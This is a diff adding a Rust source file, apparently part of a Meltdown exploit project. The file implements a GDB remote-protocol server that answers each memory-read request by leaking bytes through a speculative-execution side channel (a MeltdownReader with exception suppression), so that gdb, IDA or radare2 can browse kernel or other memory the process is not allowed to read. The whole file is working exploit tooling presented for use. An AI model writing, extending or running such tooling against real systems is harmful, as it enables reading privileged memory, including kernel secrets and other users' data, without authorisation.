@@ -0,0 +1,168 @@
+//! A server for the read-memory part of gdb's remote serial protocol, with
+//! every read leaked, so gdb, or IDA or radare2, which speak the same
+//! protocol, can browse memory this process isn't allowed to read as if it
+//! were a debugger target.
+//!
+//! Packets look like `$mffffffff81000000,40#xx`, where `xx` is the sum of
+//! the bytes between `$` and `#`. Each one is acknowledged with `+`, or `-`
+//! to ask for it again if the sum is wrong. There is nothing to run and no
+//! registers to read, so the target always reports being stopped, with every
+//! register unavailable, and packets for anything but reading memory get the
+//! empty reply that means they aren't supported.
+
+use std::io::{self, BufRead, Write};
+
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+/// The most bytes a single `m` packet is answered with. A read for more
+/// gets a short reply, and gdb asks for the rest.
+pub const MAX_READ: usize = 0x800;
+
+// what the packet size is advertised as, in hex, with room for MAX_READ
+// bytes in hex and the framing
+const PACKET_SIZE: &'static str = "PacketSize=1100";
+
+// how many registers are reported unavailable in reply to `g`: the general
+// purpose registers and rip, of 8 bytes each
+const REGISTERS: usize = 17;
+
+fn hex_digit(byte: u8) -> Option<u8> {
+    match byte {
+        b'0'...b'9' => Some(byte - b'0'),
+        b'a'...b'f' => Some(byte - b'a' + 10),
+        b'A'...b'F' => Some(byte - b'A' + 10),
+        _ => None,
+    }
+}
+
+fn checksum(data: &[u8]) -> u8 {
+    data.iter().fold(0u8, |sum, &byte| sum.wrapping_add(byte))
+}
+
+/// Reads the next packet from `input`, acknowledging it on `output`.
+/// Acknowledgements and interrupts between packets are skipped. None once
+/// the connection is closed.
+pub fn read_packet<R: BufRead, W: Write>(
+    input: &mut R,
+    output: &mut W,
+) -> io::Result<Option<Vec<u8>>> {
+    loop {
+        let mut skipped = Vec::new();
+        if input.read_until(b'$', &mut skipped)? == 0 || skipped.last() != Some(&b'$') {
+            return Ok(None);
+        }
+        let mut data = Vec::new();
+        input.read_until(b'#', &mut data)?;
+        if data.pop() != Some(b'#') {
+            return Ok(None);
+        }
+        let mut sum = [0u8; 2];
+        input.read_exact(&mut sum)?;
+        let expected = match (hex_digit(sum[0]), hex_digit(sum[1])) {
+            (Some(high), Some(low)) => high << 4 | low,
+            _ => !checksum(&data),
+        };
+        if expected == checksum(&data) {
+            output.write_all(b"+")?;
+            output.flush()?;
+            return Ok(Some(data));
+        }
+        output.write_all(b"-")?;
+        output.flush()?;
+    }
+}
+
+/// Frames `data` as a packet and sends it.
+pub fn write_packet<W: Write>(output: &mut W, data: &[u8]) -> io::Result<()> {
+    output.write_all(b"$")?;
+    output.write_all(data)?;
+    write!(output, "#{:02x}", checksum(data))?;
+    output.flush()
+}
+
+/// What to do about a packet.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Reply {
+    Packet(String),
+    /// Send the reply, if there is one, and end the session.
+    Close(Option<String>),
+}
+
+// parses the `addr,len` of an `m` packet
+fn parse_read(args: &str) -> Option<(usize, usize)> {
+    let mut parts = args.splitn(2, ',');
+    let addr = usize::from_str_radix(parts.next()?, 16).ok()?;
+    let len = usize::from_str_radix(parts.next()?, 16).ok()?;
+    Some((addr, len))
+}
+
+/// Answers `m` packets by leaking the memory asked for.
+pub struct Server<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+}
+
+impl<'a, S: ExceptionSuppressor> Server<'a, S> {
+    pub fn new(reader: &'a MeltdownReader<S>) -> Server<'a, S> {
+        Server { reader }
+    }
+
+    // leaks up to len bytes from addr, stopping at the first that doesn't
+    // decode, as a hex reply. gdb takes a short reply as the rest being
+    // unreadable, and an error if not even the first byte could be read
+    fn read(&self, addr: usize, len: usize) -> String {
+        let bytes: Vec<u8> = self.reader
+            .guess_range(addr as *const u8, len.min(MAX_READ))
+            .iter()
+            .map(|guess| guess.value)
+            .take_while(Option::is_some)
+            .map(Option::unwrap)
+            .collect();
+        if bytes.is_empty() && len > 0 {
+            // EFAULT
+            return "E0e".to_owned();
+        }
+        bytes.iter().map(|byte| format!("{:02x}", byte)).collect()
+    }
+
+    /// The reply to the packet `data`.
+    pub fn handle(&self, data: &[u8]) -> Reply {
+        let packet = String::from_utf8_lossy(data);
+        let reply = match packet.chars().next() {
+            // why the target stopped, SIGTRAP, and the same after anything
+            // that would run it
+            Some('?') | Some('c') | Some('s') => "S05".to_owned(),
+            Some('g') => "xx".repeat(8 * REGISTERS),
+            Some('m') => match parse_read(&packet[1..]) {
+                Some((addr, len)) => self.read(addr, len),
+                None => "E01".to_owned(),
+            },
+            // picking a thread, when there is only the one
+            Some('H') => "OK".to_owned(),
+            Some('k') => return Reply::Close(None),
+            Some('D') => return Reply::Close(Some("OK".to_owned())),
+            _ if packet.starts_with("qSupported") => PACKET_SIZE.to_owned(),
+            // attached to an existing process, so quitting detaches
+            _ if packet.starts_with("qAttached") => "1".to_owned(),
+            _ => String::new(),
+        };
+        Reply::Packet(reply)
+    }
+
+    /// Answers packets from `input` on `output` until the debugger kills or
+    /// detaches from the target, or closes the connection.
+    pub fn serve<R: BufRead, W: Write>(&self, mut input: R, mut output: W) -> io::Result<()> {
+        while let Some(packet) = read_packet(&mut input, &mut output)? {
+            match self.handle(&packet) {
+                Reply::Packet(reply) => write_packet(&mut output, reply.as_bytes())?,
+                Reply::Close(reply) => {
+                    if let Some(reply) = reply {
+                        write_packet(&mut output, reply.as_bytes())?
+                    }
+                    return Ok(());
+                }
+            }
+        }
+        Ok(())
+    }
+}